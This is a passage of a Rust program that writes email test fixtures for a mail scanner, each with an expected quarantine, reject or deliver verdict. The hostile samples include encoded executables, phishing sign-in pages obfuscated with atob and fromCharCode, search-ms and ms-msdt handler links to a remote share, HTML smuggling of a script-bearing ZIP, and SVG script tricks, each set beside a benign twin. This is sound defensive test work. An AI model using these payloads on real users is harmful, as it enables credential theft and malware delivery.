                ),
            ),
            q,
            &["executable", "mime_ambiguity"],
        ),
        fx(
            h,
            "210-part-headers-run-into-body",
            message(
                "Document",
                &format!(
                    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n{}\r\n--b\r\nContent-Type: application/octet-stream; name=\"outil.exe\"\r\nContent-Transfer-Encoding: base64\r\n{}--b--\r\n",
                    text_part("Bonjour"),
                    b64(&exe)
                ),
            ),
            q,
            &["executable", "mime_ambiguity"],
        ),
    ]
}

/// Files written as text (issue 32: uuencode, xxencode, yEnc, BinHex, a
/// base64 file), whatever they are declared as, hostile and ordinary
/// twins; and ZIPs whose classic and ZIP64 end records agree or not.
fn encodings_and_zip_ends() -> Vec<Fixture> {
    let e = "encoded";
    let q = "quarantine";
    let d = "deliver";
    let none: &[&str] = &[];
    let exe: &[&str] = &["executable"];
    let letter = "Liste des participants au conseil municipal\r\nMarie Dupont\r\nJean Martin\r\n";
    let octet = "application/octet-stream";
    let zip_end = |first: &[(&str, &[u8])], second: &[(&str, &[u8])], end: ZipEnd| {
        with_attachment(
            "Archive",
            "application/zip",
            "dossier.zip",
            &zip_with_end(first, second, end, true),
        )
    };
    let pe = pe();
    let note: &[u8] = b"Compte rendu de la commission des travaux";
    vec![
        fx(
            e,
            "340-uue-program-octet-stream",
            with_attachment(
                "Facture",
                octet,
                "Facture_2026-11.uue",
                uuencode("Facture_2026-11.pdf.exe", &pe).as_bytes(),
            ),
            q,
            &["double_extension", "executable"],
        ),
        fx(
            e,
            "341-uue-text-octet-stream",
            with_attachment(
                "Liste",
                octet,
                "liste.uue",
                uuencode("liste.txt", letter.as_bytes()).as_bytes(),
            ),
            d,
            none,
        ),
        fx(
            e,
            "342-xxe-program",
            with_attachment(
                "Outil",
                octet,
                "outil.xxe",
                xxencode("outil.exe", &pe).as_bytes(),
            ),
            q,
            exe,
        ),
        fx(
            e,
            "343-hqx-program",
            with_attachment(
                "Outil",
                "application/mac-binhex40",
                "outil.hqx",
                binhex("outil.exe", &pe).as_bytes(),
            ),
            q,
            exe,
        ),
        fx(
            e,
            "344-hqx-text",
            with_attachment(
                "Notes",
                "application/mac-binhex40",
                "notes.hqx",
                binhex("notes.txt", letter.as_bytes()).as_bytes(),
            ),
            d,
            none,
        ),
        fx(
            e,
            "345-yenc-program-as-text",
            with_attachment(
                "Message",
                "text/plain",
                "message.txt",
                &yenc("outil.exe", &pe),
            ),
            q,
            exe,
        ),
        fx(
            e,
            "346-yenc-text",
            with_attachment(
                "Notes",
                octet,
                "notes.ntx",
                &yenc("notes.txt", letter.as_bytes()),
            ),
            d,
            none,
        ),
        fx(
            e,
            "347-base64-file-program",
            with_attachment("Document", octet, "document.b64", b64(&pe).as_bytes()),
            q,
            exe,
        ),
        fx(
            e,
            "348-uue-program-in-zip",
            with_attachment(
                "Archive",
                "application/zip",
                "facture.zip",
                &zip(&[("facture.uue", uuencode("facture.pdf.exe", &pe).as_bytes())]),
            ),
            q,
            &["double_extension", "executable"],
        ),
        fx(
            e,
            "349-uue-text-in-zip",
            with_attachment(
                "Archive",
                "application/zip",
                "liste.zip",
                &zip(&[(
                    "liste.uue",
                    uuencode("liste.txt", letter.as_bytes()).as_bytes(),
                )]),
            ),
            d,
            none,
        ),
        // Indented `begin` lines and CRLF line ends, which uudeview and
        // 7-Zip decode (issue 32, red team).
        fx(
            e,
            "354-uue-indented-program",
            with_attachment(
                "Facture",
                octet,
                "Facture_2026-11.uue",
                indented(&uuencode("Facture_2026-11.pdf.exe", &pe), " \t", false).as_bytes(),
            ),
            q,
            &["double_extension", "executable"],
        ),
        fx(
            e,
            "355-uue-indented-program-every-line",
            with_attachment(
                "Outil",
                octet,
                "outil.uue",
                indented(&uuencode("outil.exe", &pe), "    ", true).as_bytes(),
            ),
            q,
            exe,
        ),
        fx(
            e,
            "356-uue-indented-text",
            with_attachment(
                "Liste",
                octet,
                "liste.uue",
                indented(&uuencode("liste.txt", letter.as_bytes()), " \t", false).as_bytes(),
            ),
            d,
            none,
        ),
        fx(
            "reading",
            "350-zip64-saturated-agreeing",
            zip_end(
                &[("compte-rendu.txt", note)],
                &[("annexe.txt", note)],
                ZipEnd::Zip64Saturated,
            ),
            d,
            none,
        ),
        fx(
            "reading",
            "351-zip64-equal-agreeing",
            zip_end(
                &[("compte-rendu.txt", note)],
                &[("annexe.txt", note)],
                ZipEnd::Zip64Equal,
            ),
            d,
            none,
        ),
        fx(
            "reading",
            "352-zip64-end-records-disagree",
            zip_end(
                &[("compte-rendu.txt", note)],
                &[("programme.exe", pe.as_slice())],
                ZipEnd::Zip64Elsewhere {
                    saturate_count: false,
                },
            ),
            q,
            &["archive_ambiguity", "executable"],
        ),
        fx(
            "reading",
            "353-zip64-count-saturated-disagree",
            zip_end(
                &[("programme.exe", pe.as_slice())],
                &[("compte-rendu.txt", note)],
                ZipEnd::Zip64Elsewhere {
                    saturate_count: true,
                },
            ),
            q,
            &["archive_ambiguity", "executable"],
        ),
    ]
}

/// A uuencoded text with CRLF line ends, its `begin` line (or every
/// line) after `indent`.
fn indented(uu: &str, indent: &str, every_line: bool) -> String {
    let crlf = uu.replace("\r\n", "\n").replace('\n', "\r\n");
    if every_line {
        crlf.lines().map(|l| format!("{indent}{l}\r\n")).collect()
    } else {
        format!("{indent}{crlf}")
    }
}

/// A name for a generated fixture (the corpus lives as long as the run).
fn leak(s: String) -> &'static str {
    Box::leak(s.into_boxed_str())
}

/// A page that shows `body` under a title, as a web page saved to disk.
fn html_page(title: &str, head: &str, body: &str) -> String {
    format!("<!DOCTYPE html>\n<html lang=\"fr\"><head><meta charset=\"utf-8\"><title>{title}</title>{head}</head>\n<body>\n{body}\n</body></html>\n")
}

/// What a page makes its reader do (issue 32): protocol handlers and
/// shares by every way a page reaches them, credential pages (plain and
/// written by each decoder), SVGs that are pages, files a page builds,
/// HTML under an `.xls` name; each hostile page with an ordinary twin.
fn pages() -> Vec<Fixture> {
    let p = "page";
    let q = "quarantine";
    let d = "deliver";
    let none: &[&str] = &[];
    let ext: &[&str] = &["external_content"];
    let phishing: &[&str] = &["phishing_page"];
    let active: &[&str] = &["active_content"];
    let html = |subject: &str, name: &str, page: &str| with_attachment(subject, "text/html", name, page.as_bytes());
    let mut out = Vec::new();
    let mut n = 400;
    let mut next = |out: &mut Vec<Fixture>, name: &str, eml: String, action: &'static str, cats: &'static [&'static str]| {
        out.push(fx(p, leak(format!("{n}-{name}")), eml, action, cats));
        n += 1;
    };
    // Each handler by a link, a refresh, a script and a form.
    let handlers = [
        ("search-ms", "search-ms:query=Facture&crumb=location:%5C%5C203.0.113.50@SSL%5CDavWWWRoot%5Cpartage&displayname=Documents"),
        ("search", "search:query=Facture&crumb=location:\\\\203.0.113.50@SSL\\DavWWWRoot\\partage"),
        ("ms-msdt", "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_BrowseForFile=h\""),
        ("ms-officecmd", "ms-officecmd:{\"id\":3,\"LocalProviders.LaunchOfficeAppForResult\":{\"details\":{\"appId\":5}}}"),
        ("ms-word", "ms-word:ofe|u|https://203.0.113.50/modele.docx"),
        ("ms-excel", "ms-excel:ofv|u|\\\\203.0.113.50\\partage\\budget.xlsx"),
        ("ms-appinstaller", "ms-appinstaller:?source=https://203.0.113.50/installer.msix"),
        ("file", "file://203.0.113.50/partage/facture.pdf.lnk"),
    ];
    for (scheme, url) in handlers {
        let attr = url.replace('&', "&amp;").replace('"', "&quot;");
        let js = url.replace('\\', "\\\\").replace('\'', "\\'");
        let ways = [
            ("link", html_page("Documents", "", &format!("<p><a href=\"{attr}\">Ouvrir le dossier partagé</a></p>"))),
            ("refresh", html_page("Documents", &format!("<meta http-equiv=\"refresh\" content=\"0; url={attr}\">"), "<p>Ouverture…</p>")),
            ("script", html_page("Documents", "", &format!("<script>window.location.href = '{js}';</script>"))),
            ("form", html_page("Documents", "", &format!("<form action=\"{attr}\" method=\"get\"><button>Ouvrir</button></form>"))),
        ];
        // The shipped Follina rule (office_exploits.yar) calls any
        // `ms-msdt:` page malware: refused.
        let (action, cats): (&'static str, &'static [&'static str]) = if scheme == "ms-msdt" {
            ("reject", &["external_content", "malware"])
        } else {
            (q, ext)
        };
        for (way, page) in ways {
            next(&mut out, &format!("{scheme}-by-{way}"), html("Documents numérisés", "Documents.html", &page), action, cats);
        }
    }
    // Their ordinary twins: the same ways to the town's web site.
    let site = "https://www.ville-exemple.fr/demarches/etat-civil";
    for (way, page) in [
        ("link", html_page("Démarches", "", &format!("<p><a href=\"{site}\">Démarches d'état civil</a></p>"))),
        ("refresh", html_page("Démarches", &format!("<meta http-equiv=\"refresh\" content=\"5; url={site}\">"), "<p>Redirection…</p>")),
        ("script", html_page("Démarches", "", &format!("<script>setTimeout(function () {{ window.location.href = '{site}'; }}, 5000);</script>"))),
        ("form", html_page("Démarches", "", &format!("<form action=\"{site}\" method=\"get\"><input name=\"q\"><button>Chercher</button></form>"))),
    ] {
        next(&mut out, &format!("town-site-by-{way}"), html("Démarches en ligne", "Demarches.html", &page), d, none);
    }
    // A remote share in a frame, and an ordinary map in one.
    next(&mut out, "remote-share-iframe", html("Plan", "Plan.html", &html_page("Plan", "", "<iframe src=\"\\\\203.0.113.50@SSL\\DavWWWRoot\\plans\\plan.pdf\"></iframe>")), q, ext);
    next(&mut out, "map-iframe", html("Plan", "Plan.html", &html_page("Plan", "", "<iframe src=\"https://www.openstreetmap.org/export/embed.html?bbox=4.38,45.43,4.40,45.44\"></iframe>")), d, none);
    // A sign-in form posting away; a newsletter whose search form posts
    // to the sender's own site.
    let login = "<div style=\"width:360px;margin:60px auto\"><h2>Microsoft 365</h2><p>Votre session a expiré.</p><form method=\"post\" action=\"https://portail-o365.example.invalid/auth\"><input type=\"email\" name=\"login\"><input type=\"password\" name=\"passwd\"><button>Se connecter</button></form></div>";
    next(&mut out, "sign-in-posting-away", html("Document partagé", "Document.html", &html_page("Connexion", "", login)), q, phishing);
    let newsletter = "<h1>La lettre de Saint-Étienne — décembre</h1><p>Marché de Noël, collecte des sapins, horaires des fêtes.</p><form action=\"https://www.ville-exemple.fr/recherche\" method=\"get\"><input type=\"search\" name=\"q\" placeholder=\"Rechercher sur le site\"><button>OK</button></form><p><a href=\"https://www.ville-exemple.fr/agenda\">Tout l'agenda</a></p>";
    next(&mut out, "newsletter-search-form", html("La lettre de décembre", "Lettre_decembre.html", &html_page("La lettre", "", newsletter)), d, none);
    // A page written by each decoder; every one of them a sign-in page.
    let b64 = base64::engine::general_purpose::STANDARD.encode(login);
    let pct: String = login.bytes().map(|b| format!("%{b:02X}")).collect();
    let codes: Vec<String> = login.encode_utf16().map(|u| u.to_string()).collect();
    let codes = codes.join(",");
    let eval_b64 = base64::engine::general_purpose::STANDARD.encode(format!("document.write(atob('{b64}'));"));
    for (decoder, script) in [
        ("atob", format!("var d = \"{b64}\";\ndocument.write(decodeURIComponent(escape(atob(d))));")),
        ("unescape", format!("document.write(unescape('{pct}'));")),
        ("decodeuricomponent", format!("document.body.innerHTML = decodeURIComponent(\"{pct}\");")),
        ("fromcharcode", format!("document.write(String.fromCharCode({codes}));")),
        ("charcode-array", format!("var t = [{codes}];\nvar s = '';\nfor (var i = 0; i < t.length; i++) {{ s += String.fromCharCode(t[i]); }}\ndocument.documentElement.innerHTML = s;")),
        ("eval", format!("eval(atob('{eval_b64}'));")),
    ] {
        next(&mut out, &format!("written-by-{decoder}"), html("Document partagé", "Bordereau.html", &html_page("Document partagé", "", &format!("<script>\n{script}\n</script>"))), q, phishing);
    }
    // Written from text no reading can follow, and an ordinary notice
    // written from base64.
    next(&mut out, "written-from-computed-key", html("Document partagé", "Bordereau.html", &html_page("Document partagé", "", &format!("<script>\nvar k = navigator.userAgent.length % 7;\nvar d = '{b64}'.split('').map(function (c) {{ return String.fromCharCode(c.charCodeAt(0) ^ k); }}).join('');\ndocument.write(atob(d));\n</script>"))), q, phishing);
    let notice = base64::engine::general_purpose::STANDARD.encode("<p>Ce rapport a été généré automatiquement par le logiciel de gestion des salles.</p>");
    next(&mut out, "written-notice", html("Rapport", "Rapport.html", &html_page("Rapport", "", &format!("<script>document.write(atob('{notice}'));</script>"))), d, none);
    // SVGs: HTML in a foreignObject in three namespace forms, a script, an
    // event attribute; an ordinary chart.
    let svg = |inner: &str, root_attrs: &str| format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"{root_attrs} width=\"400\" height=\"300\" viewBox=\"0 0 400 300\">\n<rect width=\"400\" height=\"300\" fill=\"#eee\"/>\n{inner}\n</svg>\n");
    for (form, doc) in [
        ("default-namespace", svg("<foreignObject width=\"400\" height=\"300\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Message vocal (0:42)</p><a href=\"https://messagerie.example.invalid/\">Écouter</a></body></html></foreignObject>", "")),
        ("prefix-on-element", svg("<foreignObject width=\"400\" height=\"300\"><xhtml:div xmlns:xhtml=\"http://www.w3.org/1999/xhtml\"><xhtml:p>Message vocal (0:42)</xhtml:p></xhtml:div></foreignObject>", "")),
        ("prefix-on-root", svg("<foreignObject width=\"400\" height=\"300\"><h:body><h:p>Message vocal (0:42)</h:p></h:body></foreignObject>", " xmlns:h=\"http://www.w3.org/1999/xhtml\"")),
    ] {
        next(&mut out, &format!("svg-foreignobject-{form}"), with_attachment("Message vocal", "image/svg+xml", "Message_vocal.svg", doc.as_bytes()), q, active);
    }
    next(&mut out, "svg-script", with_attachment("Message vocal", "image/svg+xml", "Message_vocal.svg", svg("<script type=\"text/javascript\"><![CDATA[ setTimeout(function () { window.location = 'https://messagerie.example.invalid/#' + 1; }, 100); ]]></script>", "").as_bytes()), q, active);
    next(&mut out, "svg-event-attribute", with_attachment("Message vocal", "image/svg+xml", "Message_vocal.svg", svg("<image href=\"x\" onerror=\"window.location='https://messagerie.example.invalid/'\"/>", "").as_bytes()), q, active);
    let chart = svg("<title>Budget 2027 par poste</title><g font-family=\"sans-serif\" font-size=\"12\"><rect x=\"40\" y=\"60\" width=\"60\" height=\"200\" fill=\"#3b6\"/><text x=\"40\" y=\"280\">Écoles</text><rect x=\"140\" y=\"120\" width=\"60\" height=\"140\" fill=\"#36b\"/><text x=\"140\" y=\"280\">Voirie</text><a href=\"https://www.ville-exemple.fr/budget\"><text x=\"240\" y=\"40\">Détail du budget</text></a></g>", " xmlns:xlink=\"http://www.w3.org/1999/xlink\"");
    next(&mut out, "svg-chart", with_attachment("Budget", "image/svg+xml", "Budget_2027.svg", chart.as_bytes()), d, none);
    // A page that builds a ZIP; a report whose button exports its table.
    let inner_zip = zip(&[("Facture_2026-11.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');")]);
    let zb64 = base64::engine::general_purpose::STANDARD.encode(&inner_zip);
    let smuggler = format!("<p>Chargement du document…</p><script>\nvar d = atob(\"{zb64}\");\nvar a = new Uint8Array(d.length);\nfor (var i = 0; i < d.length; i++) {{ a[i] = d.charCodeAt(i); }}\nvar f = new Blob([a], {{type: 'application/zip'}});\nvar l = document.createElement('a');\nl.href = URL.createObjectURL(f); l.download = 'Facture_2026-11.zip'; l.click();\n</script>");
    next(&mut out, "smuggling-zip", html("Facture", "Facture.html", &html_page("Facture", "", &smuggler)), q, &["html_smuggling", "script"]);
    let report = "<h1>Fréquentation des piscines</h1><button onclick=\"exporter()\">Exporter en CSV</button><table id=\"t\"><tr><th>Mois</th><th>Entrées</th></tr><tr><td>Octobre</td><td>8 412</td></tr><tr><td>Novembre</td><td>7 950</td></tr></table><script>\nfunction exporter() {\n  var lignes = [];\n  document.querySelectorAll('#t tr').forEach(function (tr) {\n    var c = [];\n    tr.querySelectorAll('th,td').forEach(function (x) { c.push('\"' + x.textContent + '\"'); });\n    lignes.push(c.join(';'));\n  });\n  var blob = new Blob([String.fromCharCode(0xFEFF) + lignes.join('\\r\\n')], {type: 'text/csv;charset=utf-8'});\n  var a = document.createElement('a');\n  a.href = URL.createObjectURL(blob);\n  a.download = 'piscines.csv';\n  a.click();\n}\n</script>";
    next(&mut out, "report-csv-export", html("Fréquentation", "Frequentation.html", &html_page("Fréquentation", "", report)), d, none);
    // HTML tables saved as .xls, with and without a script.
    let table = "<table border=\"1\"><tr><th>Nom</th><th>Classe</th></tr><tr><td>Martin</td><td>CE2</td></tr></table>";
    let xls = |extra: &str| format!("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\" xmlns=\"http://www.w3.org/TR/REC-html40\"><head><meta name=\"ProgId\" content=\"Excel.Sheet\"></head><body>{table}{extra}</body></html>");
    next(&mut out, "xls-html-export", with_attachment("Export", "application/vnd.ms-excel", "Export_inscriptions.xls", xls("").as_bytes()), d, none);
    next(&mut out, "xls-html-export-script", with_attachment("Export", "application/vnd.ms-excel", "Export_inscriptions.xls", xls("<script>location.href = 'search-ms:query=Inscriptions&crumb=location:\\\\\\\\203.0.113.50@SSL\\\\DavWWWRoot\\\\export';</script>").as_bytes()), q, ext);
    out.extend(pages_red_team(n, login, &b64));
    out
}

/// The red-team pages of issue 32 that were delivered, each kind with an
/// ordinary twin: decoders held in variables (and a function nobody
/// knows fed a large encoded literal), UTF-16 pages, SVG internal DTD
/// entities, a `<base href>` every relative link goes to.
fn pages_red_team(first: usize, login: &str, b64: &str) -> Vec<Fixture> {
    let p = "page";
    let q = "quarantine";
    let d = "deliver";
    let none: &[&str] = &[];
    let ext: &[&str] = &["external_content"];
    let phishing: &[&str] = &["phishing_page"];
    let active: &[&str] = &["active_content"];
    let html = |subject: &str, name: &str, page: &[u8]| with_attachment(subject, "text/html", name, page);
    let svg_mail = |name: &str, doc: &[u8]| with_attachment("Message vocal", "image/svg+xml", name, doc);
    let mut out = Vec::new();
    let mut n = first;
    let mut next = |out: &mut Vec<Fixture>, name: &str, eml: String, action: &'static str, cats: &'static [&'static str]| {
        out.push(fx(p, leak(format!("{n}-{name}")), eml, action, cats));
        n += 1;
    };
    let written = |script: &str| html_page("Document partagé", "", &format!("<script>\n{script}\n</script>"));
    let pct: String = login.bytes().map(|b| format!("%{b:02X}")).collect();
    let codes: Vec<String> = login.encode_utf16().map(|u| u.to_string()).collect();
    let codes = codes.join(",");
    let big = base64::engine::general_purpose::STANDARD.encode(login.repeat(3));
    for (how, script) in [
        ("aliased-atob", format!("var d = atob;\ndocument.write(d('{b64}'));")),
        ("computed-window-atob", format!("var d = window['at' + 'ob'];\ndocument.write(d('{b64}'));")),
        ("destructured-atob", format!("const {{ atob: x }} = window;\ndocument.body.innerHTML = x('{b64}');")),
        ("aliased-unescape", format!("var u = unescape;\ndocument.write(u('{pct}'));")),
        ("aliased-decodeuricomponent", format!("var u = self['decodeURI' + 'Component'];\ndocument.write(u(\"{pct}\"));")),
        ("aliased-fromcharcode", format!("var f = String.fromCharCode;\ndocument.write(f.apply(null, [{codes}]));")),
        ("unknown-function", format!("document.write(Decodeur.lire('{big}'));")),
    ] {
        next(&mut out, &format!("written-by-{how}"), html("Document partagé", "Bordereau.html", written(&script).as_bytes()), q, phishing);
    }
    let notice = base64::engine::general_purpose::STANDARD.encode("<p>Ce rapport a été généré automatiquement par le logiciel de gestion des salles.</p>");
    next(&mut out, "written-notice-by-aliased-atob", html("Rapport", "Rapport.html", html_page("Rapport", "", &format!("<script>var d = atob; document.write(d('{notice}'));</script>")).as_bytes()), d, none);
    // UTF-16, little- and big-endian, with a byte order mark or only an
    // XML declaration to tell the order by.
    let utf16 = |text: &str, little: bool, bom: bool| -> Vec<u8> {
        let mut out = Vec::new();
        if bom {
            out.extend_from_slice(if little { &[0xff, 0xfe] } else { &[0xfe, 0xff] });
        }
        for u in text.encode_utf16() {
            out.extend_from_slice(&if little { u.to_le_bytes() } else { u.to_be_bytes() });
        }
        out
    };
    let svg16 = |inner: &str| format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"300\">\n<rect width=\"400\" height=\"300\" fill=\"#eee\"/>\n{inner}\n</svg>\n");
    let script = svg16("<script><![CDATA[ window.location = 'https://messagerie.example.invalid/'; ]]></script>");
    let foreign = svg16("<foreignObject width=\"400\" height=\"300\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Message vocal (0:42)</p></body></html></foreignObject>");
    next(&mut out, "utf16le-bom-svg-script", svg_mail("Message_vocal.svg", &utf16(&script, true, true)), q, active);
    next(&mut out, "utf16be-bom-svg-foreignobject", svg_mail("Message_vocal.svg", &utf16(&foreign, false, true)), q, active);
    next(&mut out, "utf16le-no-bom-svg-script", svg_mail("Message_vocal.svg", &utf16(&script, true, false)), q, active);
    next(&mut out, "utf16be-no-bom-svg-foreignobject", svg_mail("Message_vocal.svg", &utf16(&foreign, false, false)), q, active);
    let sign_in = html_page("Connexion", "", login);
    next(&mut out, "utf16le-bom-html-sign-in", html("Document partagé", "Document.html", &utf16(&sign_in, true, true)), q, phishing);
    let chart = svg16("<title>Budget 2027</title><rect x=\"40\" y=\"60\" width=\"60\" height=\"200\" fill=\"#3b6\"/><text x=\"40\" y=\"280\">Écoles</text>");
    next(&mut out, "utf16le-bom-svg-chart", with_attachment("Budget", "image/svg+xml", "Budget_2027.svg", &utf16(&chart, true, true)), d, none);
    // Internal DTD entities: a javascript: URL, markup, a billion laughs;
    // Illustrator's namespace entities.
    let dtd = |subset: &str, body: &str| format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE svg [\n{subset}\n]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"400\" height=\"300\">\n{body}\n</svg>\n");
    next(&mut out, "svg-entity-javascript-url", svg_mail("Message_vocal.svg", dtd("<!ENTITY lien \"javascript:window.location='https://messagerie.example.invalid/'\">", "<a href=\"&lien;\"><text x=\"20\" y=\"40\">Écouter le message</text></a>").as_bytes()), q, active);
    next(&mut out, "svg-entity-script-markup", svg_mail("Message_vocal.svg", dtd("<!ENTITY s \"&#60;script&#62;window.location='https://messagerie.example.invalid/'&#60;/script&#62;\">", "<text x=\"20\" y=\"40\">Message vocal</text>&s;").as_bytes()), q, active);
    let mut laughs = String::from("<!ENTITY l0 \"ha\">");
    for i in 1..10 {
        laughs.push_str(&format!("\n<!ENTITY l{i} \"{}\">", format!("&l{};", i - 1).repeat(10)));
    }
    next(&mut out, "svg-entity-billion-laughs", svg_mail("Message_vocal.svg", dtd(&laughs, "<text x=\"20\" y=\"40\">&l9;</text>").as_bytes()), q, &["budget_exceeded"]);
    next(&mut out, "svg-entity-illustrator-namespaces", with_attachment("Budget", "image/svg+xml", "Budget_2027.svg", dtd("<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">\n<!ENTITY ns_xlink \"http://www.w3.org/1999/xlink\">\n<!ENTITY titre \"Budget 2027\">", "<title>&titre;</title><g xmlns:x=\"&ns_xlink;\"><rect width=\"60\" height=\"200\" fill=\"#3b6\"/><text y=\"280\">&titre;</text></g>").as_bytes()), d, none);
    // A <base href> that every relative link goes to.
    for (how, base, link) in [
        ("search-ms", "search-ms:query=Facture&amp;crumb=location:\\\\203.0.113.50@SSL\\DavWWWRoot\\partage", "#"),
        ("file", "file://203.0.113.50/partage/", "Facture_2026-11.pdf.lnk"),
    ] {
        next(&mut out, &format!("base-{how}-relative-link"), html("Documents numérisés", "Documents.html", html_page("Documents", &format!("<base href=\"{base}\">"), &format!("<p><a href=\"{link}\">Ouvrir la facture</a></p>")).as_bytes()), q, ext);
    }
    next(&mut out, "base-town-site-relative-link", html("Démarches en ligne", "Demarches.html", html_page("Démarches", "<base href=\"https://www.ville-exemple.fr/demarches/\">", "<p><a href=\"etat-civil\">Démarches d'état civil</a> <a href=\"#haut\">Haut de page</a></p>").as_bytes()), d, none);
    out
}

fn main() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/eml");
    let all: Vec<Fixture> = [
        clean(),
        mime(),
        risky(),
        archives(),
        malware(),
        budget(),
        containers(),
        readings(),
        more_readings(),
        dangerous_types(),
        hiding(),
        encodings_and_zip_ends(),
        pages(),
    ]
    .into_iter()
    .flatten()
    // `make_fixtures CLASS …` writes those classes only.
    .filter(|f| {
        let only: Vec<String> = std::env::args().skip(1).collect();
        only.is_empty() || only.iter().any(|c| c == f.class)
    })
    .collect();
    // Only the classes written here are made anew: `realworld/` holds the
    // cases rebuilt from public reports (../shared/cases), copied by hand.
    for f in &all {
        let _ = std::fs::remove_dir_all(root.join(f.class));
    }
    for f in &all {
        let dir = root.join(f.class);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(format!("{}.eml", f.name)), &f.eml).unwrap();
        let cats: Vec<String> = f.categories.iter().map(|c| format!("\"{c}\"")).collect();
        std::fs::write(
            dir.join(format!("{}.expect.toml", f.name)),
            format!(
                "action = \"{}\"\ncategories = [{}]\n",
                f.action,
                cats.join(", ")
            ),
        )
        .unwrap();
    }
    println!("wrote {} fixtures under {}", all.len(), root.display());
}
